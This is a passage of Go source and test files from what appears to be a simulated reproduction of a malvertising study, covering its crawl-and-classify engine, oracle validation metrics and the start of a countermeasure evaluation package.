	if err := e.RemoveCampaign(999, "x"); err == nil {
		t.Fatal("bad index should fail")
	}
}
