package core

import (
	"sync"
	"testing"

	"madave/internal/oracle"
)

var (
	onceRun sync.Once
	fixS    *Study
	fixR    *Results
)

// runStudy executes one full default-scale study shared by the integration
// tests below. It is the repository's canonical end-to-end exercise.
func runStudy(t *testing.T) (*Study, *Results) {
	t.Helper()
	onceRun.Do(func() {
		s, err := NewStudy(DefaultConfig())
		if err != nil {
			panic(err)
		}
		fixS = s
		fixR = s.Run()
	})
	return fixS, fixR
}

func TestStudyProducesCorpus(t *testing.T) {
	_, r := runStudy(t)
	if r.Corpus.Len() < 5000 {
		t.Fatalf("corpus too small: %d", r.Corpus.Len())
	}
	if r.CrawlStats.PageErrors != 0 {
		t.Fatalf("page errors: %d", r.CrawlStats.PageErrors)
	}
}

func TestMaliciousRateAboutOnePercent(t *testing.T) {
	_, r := runStudy(t)
	rate := r.Oracle.MaliciousRate()
	// Paper: "about 1% of all the collected advertisements show a
	// malicious behavior".
	if rate < 0.004 || rate > 0.025 {
		t.Fatalf("malicious rate = %.4f, want ~0.01", rate)
	}
}

func TestTable1Shape(t *testing.T) {
	_, r := runStudy(t)
	tbl := r.Report.Table1
	if tbl.Total < 30 {
		t.Fatalf("too few incidents (%d) to check Table 1 shape", tbl.Total)
	}
	blShare := float64(tbl.Counts[oracle.CatBlacklists]) / float64(tbl.Total)
	if blShare < 0.55 || blShare > 0.90 {
		t.Fatalf("blacklists share = %.3f, paper has 72.6%%", blShare)
	}
	srShare := float64(tbl.Counts[oracle.CatSuspRedirect]) / float64(tbl.Total)
	if srShare < 0.08 || srShare > 0.40 {
		t.Fatalf("suspicious redirections share = %.3f, paper has 21.1%%", srShare)
	}
	// Ordering of the two big rows must match the paper.
	if tbl.Counts[oracle.CatBlacklists] <= tbl.Counts[oracle.CatSuspRedirect] {
		t.Fatal("blacklists must dominate suspicious redirections")
	}
	// Payload categories are rare.
	exeShare := float64(tbl.Counts[oracle.CatMaliciousExe]) / float64(tbl.Total)
	if exeShare > 0.08 {
		t.Fatalf("executables share = %.3f, paper has ~1%%", exeShare)
	}
}

func TestOracleMatchesGroundTruth(t *testing.T) {
	s, r := runStudy(t)
	truthMal := 0
	for _, ad := range r.Corpus.All() {
		c, ok := s.GroundTruth(ad)
		if !ok {
			t.Fatalf("no ground truth for %s", ad.Impression)
		}
		if c.IsMalicious() {
			truthMal++
		}
	}
	got := r.Oracle.MaliciousCount()
	// Precision/recall within 10%.
	if got < truthMal*9/10 || got > truthMal*11/10+2 {
		t.Fatalf("oracle found %d, ground truth %d", got, truthMal)
	}
}

func TestClusterSharesMatchPaper(t *testing.T) {
	_, r := runStudy(t)
	cl := r.Report.Clusters
	// Paper: all ads 76.6 / 11.6 / 11.8; malvertisements 82.3 / 6.2 / 11.5.
	if got := cl.AdShare["top10k"]; got < 0.65 || got > 0.88 {
		t.Fatalf("top ad share = %.3f, paper 0.766", got)
	}
	if got := cl.AdShare["bottom10k"]; got > 0.20 {
		t.Fatalf("bottom ad share = %.3f, paper 0.116", got)
	}
	if got := cl.MalShare["top10k"]; got < 0.60 || got > 0.95 {
		t.Fatalf("top malvertising share = %.3f, paper 0.823", got)
	}
	if cl.MalShare["top10k"] <= cl.MalShare["bottom10k"] {
		t.Fatal("top cluster must dominate malvertising")
	}
}

func TestFigure4GenericTLDs(t *testing.T) {
	_, r := runStudy(t)
	if len(r.Report.Figure4) == 0 {
		t.Fatal("no TLD rows")
	}
	// .com is the top TLD among malvertising sites.
	if r.Report.Figure4[0].TLD != "com" {
		t.Fatalf("top TLD = %q, paper: .com majority", r.Report.Figure4[0].TLD)
	}
	// Generic TLDs carry more than 66%.
	if r.Report.GenericTLDMalShare < 0.60 {
		t.Fatalf("generic TLD share = %.3f, paper > 0.66", r.Report.GenericTLDMalShare)
	}
}

func TestFigure5ChainShapes(t *testing.T) {
	_, r := runStudy(t)
	f5 := r.Report.Figure5
	if f5.Benign.Total() == 0 || f5.Malicious.Total() == 0 {
		t.Fatal("empty chain histograms")
	}
	// Benign chains bounded near 15, malicious reaching further.
	if f5.Benign.Quantile(0.999) > 15 {
		t.Fatalf("benign p99.9 = %d", f5.Benign.Quantile(0.999))
	}
	if f5.Malicious.Max() <= f5.Benign.Quantile(0.999) {
		t.Fatalf("malicious max %d should exceed benign bulk %d",
			f5.Malicious.Max(), f5.Benign.Quantile(0.999))
	}
	if f5.Malicious.Mean() <= f5.Benign.Mean() {
		t.Fatal("malicious chains should be longer on average")
	}
}

func TestSandboxNeverUsed(t *testing.T) {
	_, r := runStudy(t)
	if r.Report.Sandbox.AdFrames == 0 {
		t.Fatal("no ad frames counted")
	}
	if r.Report.Sandbox.SandboxedAds != 0 {
		t.Fatalf("sandboxed ads = %d, paper found none", r.Report.Sandbox.SandboxedAds)
	}
}

func TestFigure1HasOffenders(t *testing.T) {
	_, r := runStudy(t)
	if len(r.Report.Figure1) < 5 {
		t.Fatalf("only %d offending networks", len(r.Report.Figure1))
	}
	// Sorted by ratio.
	for i := 1; i < len(r.Report.Figure1); i++ {
		if r.Report.Figure1[i].Ratio > r.Report.Figure1[i-1].Ratio {
			t.Fatal("figure1 not sorted")
		}
	}
}

func TestCrawlSitesSampling(t *testing.T) {
	s, _ := runStudy(t)
	sites := s.CrawlSites()
	if len(sites) != s.Cfg.CrawlSites {
		t.Fatalf("crawl sites = %d, want %d", len(sites), s.Cfg.CrawlSites)
	}
	// The sample must span all clusters.
	top, bottom, other := 0, 0, 0
	n := len(s.Web.Sites)
	for _, site := range sites {
		switch {
		case site.Rank <= 10_000:
			top++
		case site.Rank > n-10_000:
			bottom++
		default:
			other++
		}
	}
	if top == 0 || bottom == 0 || other == 0 {
		t.Fatalf("sample misses clusters: top=%d bottom=%d other=%d", top, bottom, other)
	}

	// CrawlSites(0) returns the full set.
	s2 := *s
	s2.Cfg.CrawlSites = 0
	if len(s2.CrawlSites()) <= len(sites) {
		t.Fatal("full crawl set should be larger")
	}
}

func TestNewStudyValidation(t *testing.T) {
	cfg := DefaultConfig()
	cfg.Web.NumSites = 100 // too small
	cfg.Seed = 0           // keep sub-config seeds
	if _, err := NewStudy(cfg); err == nil {
		t.Fatal("invalid web config should fail")
	}
	cfg = DefaultConfig()
	cfg.Ads.NumNetworks = 2
	if _, err := NewStudy(cfg); err == nil {
		t.Fatal("invalid ads config should fail")
	}
}

func TestSeedPropagation(t *testing.T) {
	cfg := DefaultConfig()
	cfg.Seed = 77
	s, err := NewStudy(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if s.Cfg.Web.Seed != 77 || s.Cfg.Ads.Seed != 77 || s.Cfg.Crawl.Seed != 77 {
		t.Fatalf("seed not propagated: %+v", s.Cfg)
	}
}
