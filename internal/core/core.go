// Package core is the study engine: it assembles the full simulation (the
// synthetic web, the ad ecosystem, the HTTP universe), runs the paper's
// two-phase methodology — crawl (§3.1) then oracle classification (§3.2) —
// and produces the analysis report reproducing §4's tables and figures.
//
// The root package madave wraps this engine with the public API.
package core

import (
	"context"
	"fmt"
	"net/http"
	"time"

	"madave/internal/adnet"
	"madave/internal/adserver"
	"madave/internal/analysis"
	"madave/internal/avscan"
	"madave/internal/blacklist"
	"madave/internal/cachex"
	"madave/internal/corpus"
	"madave/internal/crawler"
	"madave/internal/easylist"
	"madave/internal/flowgraph"
	"madave/internal/honeyclient"
	"madave/internal/memnet"
	"madave/internal/netcap"
	"madave/internal/oracle"
	"madave/internal/resilient"
	"madave/internal/telemetry"
	"madave/internal/webgen"
)

// Config parameterizes a study run.
type Config struct {
	// Seed drives all randomness: generation, serving, crawling.
	Seed uint64
	// Web and Ads configure the synthetic populations.
	Web webgen.Config
	Ads adnet.Config
	// Crawl configures the collection phase.
	Crawl crawler.Config
	// CrawlSites caps how many sites of the paper-style crawl set are
	// visited (0 = all of them). Scaling down samples the set uniformly so
	// cluster proportions are preserved.
	CrawlSites int
	// RandomSites is the size of the random middle sample in the crawl set
	// (the paper used 20,000 over a 1M population).
	RandomSites int
	// OracleParallelism bounds concurrent oracle classifications.
	OracleParallelism int
	// Chaos, when non-nil, wraps every pipeline transport (crawler workers
	// and the honeyclient) in the seeded fault-injection layer with this
	// profile. Faults are a pure function of (Seed, URL, attempt), so a
	// chaotic study is as reproducible as a calm one.
	Chaos *memnet.FaultProfile
	// AnalysisRetry configures the honeyclient's resilience layer (zero
	// fields take resilient defaults) and AnalysisTimeout bounds each
	// instrumented execution (0 = none).
	AnalysisRetry   resilient.Policy
	AnalysisTimeout time.Duration
	// Telemetry, when non-nil, instruments the whole pipeline — crawler,
	// browser, resilience layer, in-memory network, EasyList matcher,
	// honeyclient, and oracle all record into it. Telemetry is strictly
	// observational: a study produces byte-identical stats and corpus with
	// it on or off.
	Telemetry *telemetry.Set
	// Cache configures the oracle-side memoization layer. Every cached
	// value is a pure function of its key, so a study with caches on is
	// byte-identical to one with caches off — they only change how fast
	// repeated artefacts classify.
	Cache CacheConfig
	// MinijsInterp forces the honeyclient's script engine back to the
	// tree-walking interpreter (the -minijs-interp escape hatch); the
	// default is the bytecode VM. Verdicts are identical either way.
	MinijsInterp bool
	// GraphOracle enables the flow-graph fourth oracle component: every
	// honeyclient report carries a structural flowgraph.Summary and the
	// oracle Result gains GraphScanned/GraphFindings. Strictly additive —
	// base stats, incidents, and the analysis report are byte-identical
	// with it on or off.
	GraphOracle bool
}

// CacheConfig holds the memoization knobs for the three hot oracle layers.
type CacheConfig struct {
	// Enabled turns all three caches on with the sizes below.
	Enabled bool
	// HoneyclientEntries caps the honeyclient report cache
	// (0 = honeyclient.DefaultCacheEntries).
	HoneyclientEntries int
	// BlacklistEntries caps the per-(host, day) verdict memo
	// (0 = blacklist.DefaultMemoEntries).
	BlacklistEntries int
	// AVScanEntries caps the content-hash scan report cache
	// (0 = avscan.DefaultCacheEntries).
	AVScanEntries int
}

// DefaultConfig returns a laptop-scale study that finishes in seconds while
// preserving every distributional property the paper measures. Scale
// CrawlSites / Crawl.Days up toward the paper's three-month crawl as budget
// allows.
func DefaultConfig() Config {
	return Config{
		Seed:              1,
		Web:               webgen.DefaultConfig(),
		Ads:               adnet.DefaultConfig(),
		Crawl:             crawler.Config{Days: 1, Refreshes: 5, Parallelism: 8},
		CrawlSites:        800,
		RandomSites:       3000,
		OracleParallelism: 8,
	}
}

// Study is an assembled simulation ready to run.
type Study struct {
	Cfg      Config
	Web      *webgen.Web
	Eco      *adnet.Ecosystem
	Server   *adserver.Server
	Universe *memnet.Universe
	List     *easylist.List
	Oracle   *oracle.Oracle
}

// NewStudy builds the full simulation.
func NewStudy(cfg Config) (*Study, error) {
	if cfg.Seed != 0 {
		cfg.Web.Seed = cfg.Seed
		cfg.Ads.Seed = cfg.Seed
		cfg.Crawl.Seed = cfg.Seed
	}
	web, err := webgen.Generate(cfg.Web)
	if err != nil {
		return nil, fmt.Errorf("core: generating web: %w", err)
	}
	eco, err := adnet.Generate(cfg.Ads)
	if err != nil {
		return nil, fmt.Errorf("core: generating ad ecosystem: %w", err)
	}
	srv := adserver.New(eco, web, cfg.Seed)
	u := memnet.NewUniverse()
	srv.Install(u)

	list, err := easylist.ParseString(srv.BuildEasyList())
	if err != nil {
		return nil, fmt.Errorf("core: building easylist: %w", err)
	}
	list.Tel = cfg.Telemetry

	hc := honeyclient.New(u, cfg.Seed)
	hc.Retry = cfg.AnalysisRetry
	hc.Timeout = cfg.AnalysisTimeout
	hc.Tel = cfg.Telemetry
	hc.MinijsInterp = cfg.MinijsInterp
	if cfg.Chaos != nil {
		hc.Transport = chaosTransport(u, cfg.Seed, *cfg.Chaos, cfg.Telemetry)
	}
	ora := oracle.New(
		hc,
		blacklist.Build(eco, cfg.Seed),
		avscan.New(cfg.Seed),
	)
	ora.Tel = cfg.Telemetry
	if cfg.OracleParallelism > 0 {
		ora.Parallelism = cfg.OracleParallelism
	}
	if cfg.Cache.Enabled {
		hc.EnableCache(cfg.Cache.HoneyclientEntries)
		ora.Lists.EnableMemo(cfg.Cache.BlacklistEntries, cfg.Telemetry)
		ora.Scanner.EnableCache(cfg.Cache.AVScanEntries, cfg.Telemetry)
	}
	if cfg.GraphOracle {
		hc.EnableGraph(flowgraph.DefaultPolicy())
	}
	return &Study{
		Cfg:      cfg,
		Web:      web,
		Eco:      eco,
		Server:   srv,
		Universe: u,
		List:     list,
		Oracle:   ora,
	}, nil
}

// CrawlSites returns the sites the crawl will visit: the paper's crawl set
// (top 10k + bottom 10k + random middle + AV feed), optionally subsampled
// uniformly to Cfg.CrawlSites.
func (s *Study) CrawlSites() []*webgen.Site {
	full := s.Web.CrawlSet(s.Cfg.RandomSites)
	n := s.Cfg.CrawlSites
	if n <= 0 || n >= len(full) {
		return full
	}
	// Uniform stride sampling preserves the rank mix (and therefore the
	// §4.2 cluster proportions).
	out := make([]*webgen.Site, 0, n)
	stride := float64(len(full)) / float64(n)
	for i := 0; i < n; i++ {
		out = append(out, full[int(float64(i)*stride)])
	}
	return out
}

// Crawl runs the collection phase over the configured crawl set.
func (s *Study) Crawl() (*corpus.Corpus, *crawler.Stats) {
	return s.CrawlSubset(s.CrawlSites())
}

// CrawlSubset runs the collection phase over an explicit site list.
func (s *Study) CrawlSubset(sites []*webgen.Site) (*corpus.Corpus, *crawler.Stats) {
	return s.newCrawler().Run(sites)
}

// CrawlContext is Crawl under a caller-supplied context: cancelling it (e.g.
// from a SIGINT handler) stops scheduling new visits and returns whatever
// was collected so far.
func (s *Study) CrawlContext(ctx context.Context) (*corpus.Corpus, *crawler.Stats) {
	return s.newCrawler().RunContext(ctx, s.CrawlSites())
}

// StreamCrawler assembles the crawler the streaming service drives visit by
// visit — the same transport and chaos wiring as the batch crawl phase.
func (s *Study) StreamCrawler() *crawler.Crawler {
	return s.newCrawler()
}

// CrawlTraced is Crawl with full HTTP traffic capture (§3.1: the paper
// captured all traffic during crawling). The trace can be saved with
// netcap's Save.
func (s *Study) CrawlTraced() (*corpus.Corpus, *crawler.Stats, *netcap.Capture) {
	cr := s.newCrawler()
	cr.KeepTraffic = true
	corp, st := cr.Run(s.CrawlSites())
	return corp, st, cr.Traffic()
}

// newCrawler assembles the crawl-phase crawler, chaos-wrapped when the
// study injects faults.
func (s *Study) newCrawler() *crawler.Crawler {
	cr := crawler.New(s.Universe, s.List, s.Web, s.Cfg.Crawl)
	cr.Telemetry = s.Cfg.Telemetry
	if s.Cfg.Chaos != nil {
		cr.Transport = chaosTransport(s.Universe, s.Cfg.Seed, *s.Cfg.Chaos, s.Cfg.Telemetry)
	}
	return cr
}

// chaosTransport builds a per-worker transport factory that layers the
// fault injector over the in-memory network.
func chaosTransport(u *memnet.Universe, seed uint64, prof memnet.FaultProfile, tel *telemetry.Set) func() http.RoundTripper {
	return func() http.RoundTripper {
		return memnet.NewChaos(&memnet.Transport{U: u, Tel: tel}, seed, prof)
	}
}

// Classify runs the oracle over a corpus.
func (s *Study) Classify(corp *corpus.Corpus) *oracle.Result {
	return s.Oracle.ClassifyCorpus(corp)
}

// ClassifyContext is Classify under a caller-supplied context.
func (s *Study) ClassifyContext(ctx context.Context, corp *corpus.Corpus) *oracle.Result {
	return s.Oracle.ClassifyCorpusContext(ctx, corp)
}

// CacheStats returns the counters of every enabled pipeline cache, in a
// stable order (honeyclient, blacklist, avscan). Empty when Cfg.Cache is
// off.
func (s *Study) CacheStats() []cachex.Stats {
	var out []cachex.Stats
	if st, ok := s.Oracle.Honey.CacheStats(); ok {
		out = append(out, st)
	}
	if st, ok := s.Oracle.Lists.MemoStats(); ok {
		out = append(out, st)
	}
	if st, ok := s.Oracle.Scanner.CacheStats(); ok {
		out = append(out, st)
	}
	return out
}

// Analyze computes the paper's tables and figures from the measured data.
func (s *Study) Analyze(corp *corpus.Corpus, res *oracle.Result, st *crawler.Stats) *analysis.Report {
	return analysis.Analyze(analysis.Input{
		Corpus:     corp,
		Result:     res,
		TotalSites: len(s.Web.Sites),
		CrawlStats: st,
	})
}

// GroundTruth resolves an advertisement's true campaign. It exists for
// validation and the EXPERIMENTS.md cross-checks; the measurement pipeline
// itself never consults it.
func (s *Study) GroundTruth(ad *corpus.Ad) (*adnet.Campaign, bool) {
	d, ok := s.Server.Decide(ad.PubHost, ad.Impression)
	if !ok {
		return nil, false
	}
	return d.Campaign, true
}

// Results bundles a full study run.
type Results struct {
	Corpus     *corpus.Corpus
	CrawlStats *crawler.Stats
	Oracle     *oracle.Result
	Report     *analysis.Report
}

// Run executes crawl → classify → analyze.
func (s *Study) Run() *Results {
	return s.RunContext(context.Background())
}

// RunContext is Run under a caller-supplied context. Cancellation stops
// scheduling new work but still classifies and analyzes whatever the crawl
// collected, so an interrupted run yields its partial tables instead of
// nothing.
func (s *Study) RunContext(ctx context.Context) *Results {
	corp, st := s.CrawlContext(ctx)
	res := s.ClassifyContext(ctx, corp)
	rep := s.Analyze(corp, res, st)
	return &Results{Corpus: corp, CrawlStats: st, Oracle: res, Report: rep}
}
