package core

import (
	"fmt"
	"sort"
	"strings"

	"madave/internal/adnet"
	"madave/internal/corpus"
	"madave/internal/oracle"
)

// Validation compares the oracle's verdicts against the simulation's ground
// truth — the luxury a simulated reproduction has over the original study,
// whose ground truth was the live Internet. The measurement pipeline never
// reads ground truth; this exists to quantify oracle quality.
type Validation struct {
	// Confusion counts at the malicious/benign level.
	TruePositives  int
	FalsePositives int
	FalseNegatives int
	TrueNegatives  int
	// PerKind maps ground-truth campaign kinds to how their ads were
	// classified.
	PerKind map[adnet.Kind]*KindOutcome

	// GraphEnabled is true when the classified result carried flow-graph
	// verdicts; the Combined* confusion then scores the four-component
	// oracle (an ad counts as flagged when the base oracle OR the graph
	// classifier flagged it). All zero when the graph oracle is off.
	GraphEnabled           bool
	CombinedTruePositives  int
	CombinedFalsePositives int
	CombinedFalseNegatives int
	CombinedTrueNegatives  int
}

// KindOutcome is the oracle's handling of one ground-truth kind.
type KindOutcome struct {
	Total int
	// Detected counts ads flagged malicious (any category).
	Detected int
	// ByCategory counts the oracle categories assigned.
	ByCategory map[oracle.Category]int
}

// Precision returns TP / (TP + FP).
func (v *Validation) Precision() float64 {
	d := v.TruePositives + v.FalsePositives
	if d == 0 {
		return 0
	}
	return float64(v.TruePositives) / float64(d)
}

// Recall returns TP / (TP + FN).
func (v *Validation) Recall() float64 {
	d := v.TruePositives + v.FalseNegatives
	if d == 0 {
		return 0
	}
	return float64(v.TruePositives) / float64(d)
}

// CombinedPrecision is Precision over the base-OR-graph confusion.
func (v *Validation) CombinedPrecision() float64 {
	d := v.CombinedTruePositives + v.CombinedFalsePositives
	if d == 0 {
		return 0
	}
	return float64(v.CombinedTruePositives) / float64(d)
}

// CombinedRecall is Recall over the base-OR-graph confusion.
func (v *Validation) CombinedRecall() float64 {
	d := v.CombinedTruePositives + v.CombinedFalseNegatives
	if d == 0 {
		return 0
	}
	return float64(v.CombinedTruePositives) / float64(d)
}

// Validate computes the validation for a classified corpus.
func (s *Study) Validate(corp *corpus.Corpus, res *oracle.Result) (*Validation, error) {
	byHash := map[string]oracle.Category{}
	for _, inc := range res.Incidents {
		byHash[inc.AdHash] = inc.Category
	}
	graphFlagged := map[string]bool{}
	for _, gf := range res.GraphFindings {
		graphFlagged[gf.AdHash] = true
	}
	v := &Validation{
		PerKind:      map[adnet.Kind]*KindOutcome{},
		GraphEnabled: res.GraphScanned > 0,
	}
	for _, ad := range corp.All() {
		c, ok := s.GroundTruth(ad)
		if !ok {
			return nil, fmt.Errorf("core: no ground truth for impression %q", ad.Impression)
		}
		cat, flagged := byHash[ad.Hash]
		ko := v.PerKind[c.Kind]
		if ko == nil {
			ko = &KindOutcome{ByCategory: map[oracle.Category]int{}}
			v.PerKind[c.Kind] = ko
		}
		ko.Total++
		if flagged {
			ko.Detected++
			ko.ByCategory[cat]++
		}
		switch {
		case c.IsMalicious() && flagged:
			v.TruePositives++
		case c.IsMalicious() && !flagged:
			v.FalseNegatives++
		case !c.IsMalicious() && flagged:
			v.FalsePositives++
		default:
			v.TrueNegatives++
		}
		combined := flagged || graphFlagged[ad.Hash]
		switch {
		case c.IsMalicious() && combined:
			v.CombinedTruePositives++
		case c.IsMalicious() && !combined:
			v.CombinedFalseNegatives++
		case !c.IsMalicious() && combined:
			v.CombinedFalsePositives++
		default:
			v.CombinedTrueNegatives++
		}
	}
	return v, nil
}

// String renders the validation as a small report.
func (v *Validation) String() string {
	var b strings.Builder
	fmt.Fprintf(&b, "oracle validation: precision %.3f, recall %.3f (TP=%d FP=%d FN=%d TN=%d)\n",
		v.Precision(), v.Recall(),
		v.TruePositives, v.FalsePositives, v.FalseNegatives, v.TrueNegatives)
	if v.GraphEnabled {
		fmt.Fprintf(&b, "  with graph oracle: precision %.3f, recall %.3f (TP=%d FP=%d FN=%d TN=%d)\n",
			v.CombinedPrecision(), v.CombinedRecall(),
			v.CombinedTruePositives, v.CombinedFalsePositives,
			v.CombinedFalseNegatives, v.CombinedTrueNegatives)
	}
	kinds := make([]adnet.Kind, 0, len(v.PerKind))
	for k := range v.PerKind {
		kinds = append(kinds, k)
	}
	sort.Slice(kinds, func(i, j int) bool { return kinds[i] < kinds[j] })
	for _, k := range kinds {
		ko := v.PerKind[k]
		fmt.Fprintf(&b, "  %-20s %6d ads, %6d detected", k, ko.Total, ko.Detected)
		if len(ko.ByCategory) > 0 {
			cats := make([]string, 0, len(ko.ByCategory))
			for cat, n := range ko.ByCategory {
				cats = append(cats, fmt.Sprintf("%s:%d", cat, n))
			}
			sort.Strings(cats)
			fmt.Fprintf(&b, "  (%s)", strings.Join(cats, " "))
		}
		b.WriteString("\n")
	}
	return b.String()
}
