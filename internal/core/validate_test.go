package core

import (
	"strings"
	"testing"

	"madave/internal/adnet"
	"madave/internal/analysis"
	"madave/internal/blacklist"
	"madave/internal/oracle"
)

func TestValidateOracle(t *testing.T) {
	s, r := runStudy(t)
	v, err := s.Validate(r.Corpus, r.Oracle)
	if err != nil {
		t.Fatal(err)
	}
	total := v.TruePositives + v.FalsePositives + v.FalseNegatives + v.TrueNegatives
	if total != r.Corpus.Len() {
		t.Fatalf("confusion total %d != corpus %d", total, r.Corpus.Len())
	}
	if v.Precision() < 0.95 {
		t.Fatalf("precision = %.3f, oracle should rarely flag benign ads", v.Precision())
	}
	if v.Recall() < 0.90 {
		t.Fatalf("recall = %.3f, oracle should catch most malicious ads", v.Recall())
	}
	// Benign ads dominate the corpus.
	if ko := v.PerKind[adnet.KindBenign]; ko == nil || ko.Total < r.Corpus.Len()*9/10 {
		t.Fatalf("benign outcome = %+v", v.PerKind[adnet.KindBenign])
	}
	// Blacklisted-kind ads are attributed to the blacklist category.
	if ko := v.PerKind[adnet.KindBlacklisted]; ko != nil && ko.Detected > 0 {
		if ko.ByCategory[oracle.CatBlacklists] == 0 {
			t.Fatalf("blacklisted kind classified as %+v", ko.ByCategory)
		}
	}
	// Hijack ads are attributed to suspicious redirections.
	if ko := v.PerKind[adnet.KindLinkHijack]; ko != nil && ko.Detected > 0 {
		if ko.ByCategory[oracle.CatSuspRedirect] == 0 {
			t.Fatalf("hijack kind classified as %+v", ko.ByCategory)
		}
	}
	out := v.String()
	if !strings.Contains(out, "precision") || !strings.Contains(out, "benign") {
		t.Fatalf("rendering:\n%s", out)
	}
}

// TestTemporalBlacklistDynamics runs a multi-day crawl against an oracle
// whose blacklists discover domains over time: early crawl days must show a
// lower detection rate than late ones — the provider-lag dynamic that makes
// longitudinal crawls worthwhile.
func TestTemporalBlacklistDynamics(t *testing.T) {
	cfg := DefaultConfig()
	cfg.Seed = 61
	cfg.CrawlSites = 250
	cfg.Crawl.Days = 6
	cfg.Crawl.Refreshes = 2
	s, err := NewStudy(cfg)
	if err != nil {
		t.Fatal(err)
	}
	// Swap in a lagged tracker: listings appear across the crawl window.
	s.Oracle.Lists = blacklist.BuildTemporal(s.Eco, cfg.Seed, cfg.Crawl.Days)
	s.Oracle.TemporalBlacklists = true

	corp, _ := s.Crawl()
	res := s.Classify(corp)
	tl := analysis.Timeline(corp, res)
	if len(tl) != cfg.Crawl.Days {
		t.Fatalf("timeline days = %d", len(tl))
	}
	first, last := tl[0], tl[len(tl)-1]
	if last.Malicious == 0 {
		t.Skip("no late-day incidents in this sample")
	}
	if first.Rate() >= last.Rate() {
		t.Fatalf("no lag dynamic: day1 rate %.4f vs day%d rate %.4f",
			first.Rate(), last.Day, last.Rate())
	}
}
