// Package defense implements and evaluates the paper's §5 countermeasures:
//
// Proactive (ad-network side, §5.1):
//   - SharedBlacklist — a common submission blacklist: a malicious campaign
//     rejected by one network can no longer be placed with any other.
//   - PenalizeNetworks — networks caught delivering malvertisements are
//     banned from participating in arbitration auctions.
//
// Reactive (user side, §5.2):
//   - AdPathGuard — the Li et al. style browser protection that blocks the
//     browser from following ad paths through known-malicious networks or
//     absurdly long arbitration chains.
//   - SandboxPolicy — publishers adding the HTML5 iframe sandbox attribute,
//     which neutralizes link hijacking (§4.4).
//   - AdBlock — full ad blocking with EasyList (the "domino effect" option).
//
// Each evaluation returns a Comparison: the malvertising exposure without
// and with the countermeasure.
package defense

import (
	"fmt"
	"net/http"

	"madave/internal/adnet"
	"madave/internal/browser"
	"madave/internal/corpus"
	"madave/internal/easylist"
	"madave/internal/memnet"
	"madave/internal/netcap"
	"madave/internal/oracle"
	"madave/internal/stats"
	"madave/internal/urlx"
)

// Comparison is a before/after measurement.
type Comparison struct {
	Name string
	// Baseline and Protected are malicious-exposure rates (fractions).
	Baseline  float64
	Protected float64
	// Notes carries measurement context (sample sizes etc.).
	Notes string
}

// Reduction returns the relative reduction achieved (0..1).
func (c Comparison) Reduction() float64 {
	if c.Baseline == 0 {
		return 0
	}
	r := 1 - c.Protected/c.Baseline
	if r < 0 {
		return 0
	}
	return r
}

// String renders the comparison.
func (c Comparison) String() string {
	return fmt.Sprintf("%-22s baseline %.4f -> protected %.4f (-%.1f%%) %s",
		c.Name, c.Baseline, c.Protected, 100*c.Reduction(), c.Notes)
}

// maliciousRate measures the malicious impression rate of an ecosystem by
// simulation: n impressions with publishers drawn by market share.
func maliciousRate(eco *adnet.Ecosystem, n int, seed uint64, policy *adnet.ServePolicy) float64 {
	rng := stats.NewRNG(seed).Fork("defense-sim")
	shares := make([]float64, len(eco.Networks))
	for i, net := range eco.Networks {
		shares[i] = net.Share
	}
	dist := stats.NewWeighted(shares)
	mal := 0
	for i := 0; i < n; i++ {
		d := eco.ServeWithPolicy(rng, dist.Sample(rng), policy)
		if d.Campaign.IsMalicious() {
			mal++
		}
	}
	return float64(mal) / float64(n)
}

// SharedBlacklist evaluates the common submission blacklist: the same
// ecosystem is generated with and without rejection sharing, and the
// malicious impression rate is compared.
func SharedBlacklist(cfg adnet.Config, impressions int, seed uint64) (Comparison, error) {
	base, err := adnet.Generate(cfg)
	if err != nil {
		return Comparison{}, err
	}
	shared := cfg
	shared.SharedSubmissionFilter = true
	prot, err := adnet.Generate(shared)
	if err != nil {
		return Comparison{}, err
	}
	return Comparison{
		Name:      "shared-blacklist",
		Baseline:  maliciousRate(base, impressions, seed, nil),
		Protected: maliciousRate(prot, impressions, seed, nil),
		Notes:     fmt.Sprintf("(%d impressions)", impressions),
	}, nil
}

// PenalizeNetworks evaluates arbitration bans: first a measurement pass
// estimates each network's malvertising ratio, then networks whose ratio
// exceeds ratioThreshold are banned from buying impressions in arbitration,
// and exposure is re-measured.
func PenalizeNetworks(eco *adnet.Ecosystem, impressions int, ratioThreshold float64, seed uint64) Comparison {
	// Measurement pass.
	rng := stats.NewRNG(seed).Fork("penalty-measure")
	shares := make([]float64, len(eco.Networks))
	for i, net := range eco.Networks {
		shares[i] = net.Share
	}
	dist := stats.NewWeighted(shares)
	tot := make([]int, len(eco.Networks))
	mal := make([]int, len(eco.Networks))
	for i := 0; i < impressions; i++ {
		d := eco.Serve(rng, dist.Sample(rng))
		s := d.ServingNetwork()
		tot[s]++
		if d.Campaign.IsMalicious() {
			mal[s]++
		}
	}
	policy := &adnet.ServePolicy{BannedFromResale: map[int]bool{}}
	banned := 0
	for i := range eco.Networks {
		if tot[i] >= 50 && float64(mal[i])/float64(tot[i]) > ratioThreshold {
			policy.BannedFromResale[i] = true
			banned++
		}
	}
	return Comparison{
		Name:      "penalize-networks",
		Baseline:  maliciousRate(eco, impressions, seed+1, nil),
		Protected: maliciousRate(eco, impressions, seed+1, policy),
		Notes:     fmt.Sprintf("(%d networks banned from arbitration)", banned),
	}
}

// AdPathGuard is the reactive browser-side protection of Li et al. [18]:
// it learns which ad networks appeared in known-malicious ad paths and
// which chain depths are suspicious, then decides per ad whether the
// browser should have refused to follow its path.
type AdPathGuard struct {
	// FlaggedNetworks are serving hosts seen in training incidents.
	FlaggedNetworks map[string]bool
	// MaxChain is the longest ad path the guard tolerates.
	MaxChain int
}

// TrainAdPathGuard builds a guard from training incidents (ads already
// known to be malicious, e.g. yesterday's oracle output).
func TrainAdPathGuard(training []*corpus.Ad, maxChain int) *AdPathGuard {
	g := &AdPathGuard{FlaggedNetworks: map[string]bool{}, MaxChain: maxChain}
	for _, ad := range training {
		if len(ad.Chain) > 0 {
			g.FlaggedNetworks[ad.Chain[len(ad.Chain)-1]] = true
		}
	}
	return g
}

// Blocks reports whether the guard would have stopped the ad's path.
func (g *AdPathGuard) Blocks(ad *corpus.Ad) bool {
	if len(ad.Chain) > g.MaxChain {
		return true
	}
	for _, host := range ad.Chain {
		if g.FlaggedNetworks[host] {
			return true
		}
	}
	return false
}

// EvaluateAdPathGuard trains on the first half of the incidents and
// evaluates protection and collateral blocking on the remaining corpus.
func EvaluateAdPathGuard(corp *corpus.Corpus, res *oracle.Result, maxChain int) Comparison {
	malicious := map[string]bool{}
	for _, inc := range res.Incidents {
